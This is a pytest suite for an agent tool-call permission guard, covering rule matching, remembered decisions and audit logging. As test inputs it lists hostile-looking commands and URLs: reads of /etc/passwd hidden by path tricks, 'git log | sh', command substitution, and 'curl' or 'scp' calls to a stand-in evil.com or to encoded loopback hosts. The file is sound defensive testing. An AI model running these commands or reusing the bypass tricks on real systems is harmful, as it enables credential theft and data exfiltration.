"""`RuleGuard`: what rules fit, which of several wins, what is remembered and written down."""

from __future__ import annotations

import json
import os
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from axio.agent import Agent
from axio.context import MemoryContextStore
from axio.exceptions import GuardError
from axio.run import RUN, Run
from axio.run.call import Call
from axio.testing import StubTransport
from axio.tool import Tool
from axio_tools_local.read_file import read_file
from axio_tools_local.shell import shell
from axio_tools_local.write_file import write_file
from axio_tui_guards import AuditLog, Decisions, Rule, RuleGuard
from axio_tui_guards.calls import read_call
from axio_tui_guards.judging import judge
from axio_tui_guards.paths import resolve
from axio_tui_guards.redaction import REMOVED


async def handler(**kwargs: Any) -> str:
    return "ran"


def tool_called(name: str, **options: Any) -> Tool[Any]:
    return Tool(name=name, handler=handler, **options)


class Person:
    def __init__(self, *answers: str) -> None:
        self.answers = list(answers)
        self.questions: list[str] = []

    async def __call__(self, question: str) -> str:
        self.questions.append(question)
        return self.answers.pop(0)


def effect(rules: list[Rule], tool: str = "shell", **kwargs: Any) -> str:
    return judge(read_call(tool_called(tool), kwargs), rules).effect


def allow(**kwargs: Any) -> list[Rule]:
    return [Rule("allow", **kwargs)]


def all_but(**kwargs: Any) -> list[Rule]:
    return [Rule("allow"), Rule("deny", **kwargs)]


# ── what rules fit ────────────────────────────────────────────────────────────────────────────


def test_without_rules_everything_is_asked_about() -> None:
    assert effect([], "any", x=1) == "ask"
    assert effect([], command="true") == "ask"


def test_tool_and_arguments() -> None:
    assert effect(allow(tool="read_*"), "read_file", filename="x") == "allow"
    assert effect(allow(tool="read_*"), "write_file", file_path="x") == "ask"
    rule = allow(arguments={"mode": "r*", "count": "[1-3]"})
    assert effect(rule, "t", mode="read", count=2) == "allow"
    assert effect(rule, "t", mode="read", count=7) == "ask"
    assert effect(rule, "t", mode="read") == "ask"
    assert effect(all_but(arguments={"mode": "w"}), "t", mode="w") == "deny"


def test_the_strictest_rule_wins_in_any_order() -> None:
    rules = [Rule("allow", tool="t"), Rule("ask", tool="t"), Rule("deny", tool="t")]
    assert effect(rules, "t") == effect(rules[::-1], "t") == "deny"
    assert effect(rules[:2], "t") == effect(rules[1::-1], "t") == "ask"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status", "allow"),
        ("git status --short", "ask"),
        ("git log -n 3", "allow"),
        ("git log", "allow"),
        ("git logs", "ask"),
        ("git log && git status", "allow"),
        ("git log && rm x", "ask"),
        ("cd src && git log", "allow"),
        ("sudo git log", "ask"),
        ("env LANG=C git log", "allow"),
        ("git log > x", "ask"),
        ("git log > /dev/null 2>&1", "allow"),
        ("git $x", "ask"),
        ("git log $x", "allow"),
        ("./git log", "ask"),
        ("/tmp/git log", "ask"),
        ("GIT_PAGER=evil git log", "ask"),
        ("git log | sh", "ask"),
        ("git log 'unclosed", "ask"),
        ("", "ask"),
    ],
)
def test_a_command_that_is_allowed_has_to_fit_exactly(command: str, expected: str) -> None:
    rules = [Rule("allow", command="git status"), Rule("allow", command="git log *")]
    assert effect(rules, command=command) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git push", "deny"),
        ("git -C x push -f", "deny"),
        ("/usr/bin/git push", "deny"),
        ("GIT push", "deny"),
        ("sudo -u me git push", "deny"),
        ("git status", "allow"),
        ("git alias-of-mine", "ask"),
        ("ls push", "allow"),
        ("make", "ask"),
        ("echo 'git push'", "allow"),
        ("echo '$(git push)'", "ask"),
    ],
)
def test_a_command_that_is_denied_is_found_among_others(command: str, expected: str) -> None:
    assert effect(all_but(command="git push"), command=command) == expected


def test_a_program_that_a_rule_names_is_trusted() -> None:
    rules = [*all_but(command="rm"), Rule("allow", command="git *")]
    assert effect(rules, command="git status") == "allow"
    assert effect(rules, command="make") == "ask"


def test_a_list_of_words_is_a_command_too() -> None:
    rules = all_but(command="rm")
    assert effect(rules, command=["rm", "x"]) == "deny"
    assert effect(rules, command="rm", args=["x"]) == "deny"
    assert effect(rules, command="ls", args=["rm"]) == "allow"
    assert effect(rules, cmd=["sh", "-c", "rm x"]) == "deny"
    assert effect(rules, commands=["ls", "rm x"]) == "deny"
    assert effect(rules, command=["ls", "; rm x"]) == "allow"
    assert effect(rules, command=7) == "ask"
    assert effect(rules, options={"command": "ls"}) == "ask"
    assert effect(rules, command=None) == "allow"
    assert effect(rules, command="sh -c ls", args=[]) == "allow"


def test_code_may_do_anything() -> None:
    assert effect(all_but(command="rm"), "run_python", code="print(1)") == "ask"
    assert effect(all_but(path="/etc"), "run_python", code="print(1)") == "ask"
    assert effect(all_but(host="evil.com"), "run_python", code="print(1)") == "ask"
    assert effect(allow(tool="run_python"), "run_python", code="print(1)") == "allow"


def test_paths_are_compared_where_they_lead(tmp_path: Path) -> None:
    (tmp_path / "room").mkdir()
    (tmp_path / "room" / "out").symlink_to("/etc")
    room = str(tmp_path / "room")
    assert effect(allow(path=room), "t", path=f"{room}/x") == "allow"
    assert effect(allow(path=room), "t", path=f"{room}/../x") == "ask"
    assert effect(allow(path=room), "t", path=f"{room}/out/passwd") == "ask"
    assert effect(allow(path=room), "t", path=f"{room}/x", cwd="/") == "ask"
    assert effect(allow(path=room), "t") == "ask"
    assert effect(all_but(path="/etc"), "t", path=f"{room}/out/passwd") == "deny"
    assert effect(all_but(path="/etc"), "t", path=f"{room}/x") == "allow"
    assert effect(all_but(path=f"{room}/keys"), "t", directory=room) == "ask"
    assert effect(all_but(path="/etc"), "t", path="a\0b") == "ask"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cat x", "allow"),
        ("cat ./sub/x > y", "allow"),
        ("cat ../x", "ask"),
        ("cat < /etc/passwd", "ask"),
        ("cat x > /tmp/y", "ask"),
        ("cd sub && cat x", "allow"),
        ("cd .. && cat x", "ask"),
        ("cd sub; cd ../..; cat x", "ask"),
        ("cd $x && cat x", "ask"),
        ("cd -; cat x", "ask"),
        ("cd; cat x", "ask"),
        ("cd a b; cat x", "ask"),
        ("pushd / ; cat x", "ask"),
        ("while true; do cat x; cd sub; done", "ask"),
        ("cat $x", "ask"),
        ("cat *", "ask"),
        ("cat ~/x", "ask"),
        ("cat --file=/etc/passwd", "ask"),
        ("cat -f/etc/passwd", "ask"),
        ("cat a:/etc/passwd", "ask"),
        ("cat @/etc/passwd", "ask"),
        ("cat a,/etc/passwd", "ask"),
        ("cat file:///etc/passwd", "ask"),
        ("{ cat x; } > /etc/y", "ask"),
        ("cat out/x", "ask"),
    ],
)
def test_paths_in_commands_are_seen(
    command: str, expected: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    room = tmp_path / "room"
    (room / "sub").mkdir(parents=True)
    (room / "out").symlink_to("/etc")
    monkeypatch.delenv("CDPATH", raising=False)
    rules = allow(command="cat *", path=str(room))
    assert effect(rules, command=command, cwd=str(room)) == expected
    assert effect(rules, command=command, cwd="/") == "ask"


def test_cd_is_followed_as_far_as_it_can_be(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert effect(all_but(path="/etc"), command="cd / && cat etc/passwd") == "deny"
    assert effect(all_but(path="/etc"), command="cat passwd") == "allow"
    monkeypatch.setenv("CDPATH", "/")
    assert effect(all_but(path="/etc"), command="cd etc && cat passwd") == "ask"
    assert effect(all_but(path="/etc"), command="cd ./x && cat passwd") == "allow"
    many = "".join(f"cd d{i}; " for i in range(9))
    monkeypatch.delenv("CDPATH")
    assert effect(all_but(path="/etc"), command=f"{many} cat passwd") == "ask"


def test_a_redirection_of_a_group_needs_a_rule_for_its_path(tmp_path: Path) -> None:
    assert effect(allow(command="ls *"), command="{ ls; } > x", cwd=str(tmp_path)) == "ask"
    rules = [Rule("allow", command="ls *"), Rule("allow", path=str(tmp_path))]
    assert effect(rules, command="{ ls; } > x", cwd=str(tmp_path)) == "allow"


@pytest.mark.parametrize(
    ("kwargs", "expected"),
    [
        ({"url": "https://example.com/x"}, "allow"),
        ({"url": "HTTPS://EXAMPLE.COM./x"}, "allow"),
        ({"url": "https://api.example.com"}, "ask"),
        ({"url": "https://example.com@evil.com/"}, "deny"),
        ({"url": "https://user:p%40@example.com/"}, "allow"),
        ({"url": "http://evil.com\\@example.com/"}, "ask"),
        ({"url": "http://%65vil.com/"}, "ask"),
        ({"url": "http:evil.com/"}, "deny"),
        ({"url": "//evil.com/x"}, "deny"),
        ({"url": "evil.com:80/x"}, "deny"),
        ({"host": "EVIL.com."}, "deny"),
        ({"note": "see https://evil.com/"}, "deny"),
        ({"urls": ["https://example.com", "https://evil.com"]}, "deny"),
        ({"url": "https://example.com/?u=https://evil.com"}, "deny"),
        ({"url": "http://[::1]:80/"}, "deny"),
        ({"url": "http://127.1/"}, "deny"),
        ({"url": "http://0x7f000001/"}, "deny"),
        ({"host": "2130706433"}, "deny"),
        ({"host": "0x7f.1"}, "deny"),
        ({"host": "::1"}, "deny"),
        ({"host": "12"}, "ask"),
        ({"host": f"{'x' * 70}.com"}, "ask"),
        ({"x": 1}, "ask"),
    ],
)
def test_hosts_are_compared_in_one_form(kwargs: dict[str, Any], expected: str) -> None:
    rules = [
        Rule("allow", host="example.com"),
        *(Rule("deny", host=host) for host in ("*evil.com", "127.0.0.1", "::1")),
    ]
    assert effect(rules, "fetch", **kwargs) == expected


def test_hosts_in_commands_are_seen() -> None:
    rules = all_but(host="evil.com")
    assert effect(rules, command="curl evil.com/x") == "deny"
    assert effect(rules, command="curl https://evil.com") == "deny"
    assert effect(rules, command="scp x me@evil.com:y") == "deny"
    assert effect(rules, command="curl $x") == "ask"
    assert effect(rules, command="curl https://example.com") == "allow"
    fits = allow(command="curl *", host="example.com")
    assert effect(fits, command="curl https://example.com/x") == "allow"
    assert effect(fits, command="curl https://example.com/x https://evil.com") == "ask"
    assert effect(fits, command="curl -x") == "ask"


def test_what_nobody_can_read_asks() -> None:
    deep = "$(" * 100 + "ls" + ")" * 100
    for text in (deep, "sh -c " * 3 + "'", "\x07", "a\r\nb", "é\u00a0x", "(" * 5000):
        assert effect(allow(), command=text) == "ask"
    loop: list[Any] = []
    loop.append(loop)
    assert effect(allow(), "t", x=loop) == "ask"


def test_a_rule_that_cannot_be_meant_is_refused() -> None:
    with pytest.raises(ValueError, match="effect"):
        Rule("maybe")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="command"):
        Rule("allow", command=" ")


# ── the person ────────────────────────────────────────────────────────────────────────────────


async def test_an_allowed_call_passes_and_a_denied_one_is_refused_unasked() -> None:
    guard = RuleGuard([Rule("allow", tool="a"), Rule("deny", tool="b")], prompt_fn=Person())
    assert await guard(tool_called("a"), x=1, tool="y") == {"x": 1, "tool": "y"}
    with pytest.raises(GuardError, match="denied"):
        await guard(tool_called("b"))


@pytest.mark.parametrize("answer", ["", "n", "no way", "run", "session", "always"])
async def test_only_a_known_yes_allows(answer: str) -> None:
    # Outside of a run there is none to remember for.
    with pytest.raises(GuardError, match="denied"):
        await RuleGuard(prompt_fn=Person(answer))(tool_called("t"))


async def test_yes_holds_once_and_project_from_then_on() -> None:
    person = Person("y", "project", "n")
    guard = RuleGuard(prompt_fn=person)
    for _ in range(4):
        assert await guard(tool_called("t"), x=1)
    with pytest.raises(GuardError):
        await guard(tool_called("t"), x=2)
    assert len(person.questions) == 3
    assert "'t' wants to run with" in person.questions[0]
    assert "[y / project / n / never / why not]" in person.questions[0]


async def test_deny_is_remembered_and_can_be_revoked() -> None:
    person = Person("deny", "y")
    guard = RuleGuard([Rule("ask")], prompt_fn=person)
    for _ in range(2):
        with pytest.raises(GuardError, match="denied"):
            await guard(tool_called("t"), x=1)
    (decision,) = guard.decisions.list()
    assert (decision.rule.effect, decision.lifetime) == ("deny", "project")
    assert decision.note == 't {"x": 1}'
    guard.decisions.revoke(decision.id)
    assert await guard(tool_called("t"), x=1)
    with pytest.raises(KeyError):
        guard.decisions.revoke(decision.id)


async def test_a_configured_deny_beats_a_remembered_allow() -> None:
    guard = RuleGuard(prompt_fn=Person("project"))
    assert await guard(tool_called("t"), x=1)
    guard.rules = [Rule("deny", tool="t")]
    with pytest.raises(GuardError, match="denied"):
        await guard(tool_called("t"), x=1)


async def test_a_remembered_rule_beats_a_configured_ask_and_a_doubt() -> None:
    guard = RuleGuard([Rule("ask", tool="t"), Rule("deny", command="rm")], prompt_fn=Person())
    guard.decisions.remember(Rule("allow", tool="t"), "project", resolve("."))
    assert await guard(tool_called("t"), x=1)
    guard = RuleGuard([Rule("deny", command="rm")], prompt_fn=Person("project"))
    for _ in range(2):
        assert await guard(tool_called("shell"), command="./unknown $(")


def make_run(parent: Run | None = None) -> Run:
    agent = Agent(system="", transport=StubTransport())
    return Run(MemoryContextStore(), agent, parent=parent)


async def test_a_decision_holds_for_its_run_or_session_and_for_sub_agents() -> None:
    person = Person("run", "run", "session", "y")
    guard = RuleGuard(prompt_fn=person)
    tool = tool_called("t")

    async def ask_in(run: Run, **kwargs: Any) -> int:
        token = RUN.set(run.inside(Call("id", "t", 0)))
        try:
            await guard(tool, **kwargs)
        finally:
            RUN.reset(token)
        return len(person.questions)

    first, second = make_run(), make_run()
    second.store = first.store
    assert await ask_in(first, x=1) == await ask_in(make_run(parent=first), x=1) == 1
    assert await ask_in(second, x=1) == 2
    assert await ask_in(first, x=2) == await ask_in(second, x=2) == 3
    assert await ask_in(make_run(), x=2) == 4
    assert {decision.lifetime for decision in guard.decisions.list()} == {"run", "session"}


async def test_only_so_many_runs_are_kept_and_the_oldest_asks_again() -> None:
    person = Person("run", "n")
    guard = RuleGuard(prompt_fn=person)
    oldest = make_run()
    for number, run in enumerate([oldest, *(make_run() for _ in range(101))]):
        RUN.set(run)
        if number == 0:
            await guard(tool_called("t"))
        else:
            guard._scopes()
    RUN.set(oldest)
    with pytest.raises(GuardError):
        await guard(tool_called("t"))


async def test_a_path_that_changes_while_the_person_thinks_is_refused(tmp_path: Path) -> None:
    link = tmp_path / "link"
    link.symlink_to("a")

    async def slow(question: str) -> str:
        link.unlink()
        link.symlink_to("/etc")
        return "y"

    with pytest.raises(GuardError, match="somewhere else"):
        await RuleGuard(prompt_fn=slow)(tool_called("t"), path=str(link))


async def test_a_question_that_cannot_be_put_refuses() -> None:
    with pytest.raises(GuardError, match="denied: the question could not be asked"):
        await RuleGuard(prompt_fn=Person())(tool_called("t"))


async def test_what_a_call_holds_makes_it_another_call(tmp_path: Path) -> None:
    person = Person("project", "n", "n", "n")
    guard = RuleGuard(prompt_fn=person)

    class Silent:
        def __init__(self, value: str) -> None:
            self.value = value

        def __repr__(self) -> str:
            return "Silent"

    await guard(tool_called("t"), x=Silent("a"))
    await guard(tool_called("t"), x=Silent("a"))
    there = tool_called("t", context=SimpleNamespace(root=str(tmp_path)))
    for tool, value in ((tool_called("t"), "b"), (tool_called("u"), "a"), (there, "a")):
        with pytest.raises(GuardError):
            await guard(tool, x=Silent(value))


# ── files ─────────────────────────────────────────────────────────────────────────────────────


async def test_project_decisions_survive_and_revoked_ones_do_not(tmp_path: Path) -> None:
    path = tmp_path / "decisions.jsonl"
    guard = RuleGuard(decisions=Decisions(path), prompt_fn=Person("project", "project"))
    await guard(tool_called("t"), x=1)
    await guard(tool_called("t"), password="hunter2 secret")
    decision = Decisions(path).list()[0]
    again = RuleGuard(decisions=Decisions(path), prompt_fn=Person())
    assert await again(tool_called("t"), x=1)
    again.decisions.revoke(decision.id)
    assert len(Decisions(path).list()) == 1
    assert path.stat().st_mode & 0o777 == 0o600
    assert "hunter2" not in path.read_text()
    other = RuleGuard(decisions=Decisions(path), project=tmp_path, prompt_fn=Person("n"))
    with pytest.raises(GuardError):
        await other(tool_called("t"), password="hunter2 secret")


def test_decisions_for_a_run_are_not_written(tmp_path: Path) -> None:
    path = tmp_path / "decisions.jsonl"
    decisions = Decisions(path)
    decision = decisions.remember(Rule("allow"), "run", "run 1")
    decisions.revoke(decision.id)
    assert not path.exists()
    with pytest.raises(ValueError, match="lifetime"):
        decisions.remember(Rule("allow"), "ever", "x")  # type: ignore[arg-type]


@pytest.mark.parametrize("line", ["{", "{}", '"x"', "3", '{"rule": {}, "lifetime": "ever"}'])
def test_a_damaged_file_is_not_taken_for_an_empty_one(tmp_path: Path, line: str) -> None:
    path = tmp_path / "decisions.jsonl"
    Decisions(path).remember(Rule("deny", tool="t"), "project", "/p")
    with path.open("a") as file:
        file.write(line + "\n")
    with pytest.raises(ValueError, match="line 2 is no decision"):
        Decisions(path)


async def test_the_audit_log_says_what_became_of_each_call(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    guard = RuleGuard([Rule("allow", tool="a")], audit=AuditLog(path), prompt_fn=Person("no way"))
    await guard(tool_called("a"), token="abc", x=[1, None])
    run = make_run()
    RUN.set(run.inside(Call("c1", "b", 0)))
    with pytest.raises(GuardError):
        await guard(tool_called("b"))
    first, second = (json.loads(line) for line in path.read_text().splitlines())
    assert (first["tool"], first["effect"], first["asked"]) == ("a", "allow", False)
    assert first["arguments"] == {"token": REMOVED, "x": [1, None]}
    assert (first["session"], first["call"]) == (None, None)
    assert (second["effect"], second["reason"], second["asked"]) == ("deny", "no way", True)
    assert (second["session"], second["call"]) == (run.store.session_id, "c1")
    assert path.stat().st_mode & 0o777 == 0o600


async def test_without_its_audit_log_the_guard_refuses(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    guard = RuleGuard([Rule("allow")], audit=AuditLog(tmp_path / "missing" / "log"))
    with pytest.raises(GuardError, match="denied: the audit log"):
        await guard(tool_called("t"))
    full = RuleGuard([Rule("allow")], audit=AuditLog("/dev/full"))
    with pytest.raises(GuardError, match="denied: the audit log"):
        await full(tool_called("t"))
    # A disk that takes a part only, which no real one can be made to do here.
    monkeypatch.setattr(os, "write", lambda descriptor, data: 1)
    part = RuleGuard([Rule("allow")], audit=AuditLog(tmp_path / "log"))
    with pytest.raises(GuardError, match="is full"):
        await part(tool_called("t"))


# ── the tools of this family ──────────────────────────────────────────────────────────────────


async def test_the_local_tools_stay_inside_what_rules_allow(tmp_path: Path) -> None:
    room = tmp_path / "room"
    room.mkdir()
    (tmp_path / "secret.txt").write_text("secret")
    guard = RuleGuard([Rule("allow", path=str(room))], prompt_fn=Person("", "", "", ""))
    write = Tool(name="write_file", handler=write_file, guards=(guard,))
    read = Tool(name="read_file", handler=read_file, guards=(guard,))
    run = Tool(name="shell", handler=shell, guards=(guard,))
    await write(file_path=str(room / "x.txt"), content="hello")
    assert await read(filename=str(room / "x.txt")) == "hello"
    assert "hello" in await run(command="cat x.txt", cwd=str(room))
    for tool, kwargs in (
        (write, {"file_path": str(room / "../secret.txt"), "content": "x"}),
        (read, {"filename": str(room / "../secret.txt")}),
        (run, {"command": "cat ../secret.txt", "cwd": str(room)}),
        (run, {"command": "cat x.txt", "cwd": str(tmp_path)}),
    ):
        with pytest.raises(GuardError, match="denied"):
            await tool(**kwargs)
    assert (tmp_path / "secret.txt").read_text() == "secret"
